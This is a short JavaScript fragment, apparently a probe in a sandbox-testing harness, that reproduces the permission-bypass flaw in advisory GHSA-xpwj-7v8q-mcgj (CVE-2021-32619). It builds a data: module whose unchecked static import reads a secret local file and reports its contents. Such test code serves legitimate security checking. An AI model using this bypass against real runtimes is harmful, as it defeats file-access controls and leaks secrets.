// GHSA-xpwj-7v8q-mcgj CVE-2021-32619
// A static import inside a dynamically imported module is not checked.
const specifier = 'file://' + GOAL.secret;
try { await import('data:text/javascript,' + encodeURIComponent(`import text from ${JSON.stringify(specifier)} with {type: "text"}; export default text;`)).then((m) => note(m.default)); } catch (e) { note(String(e).includes(GOAL.token) ? GOAL.token : ''); }
return found;
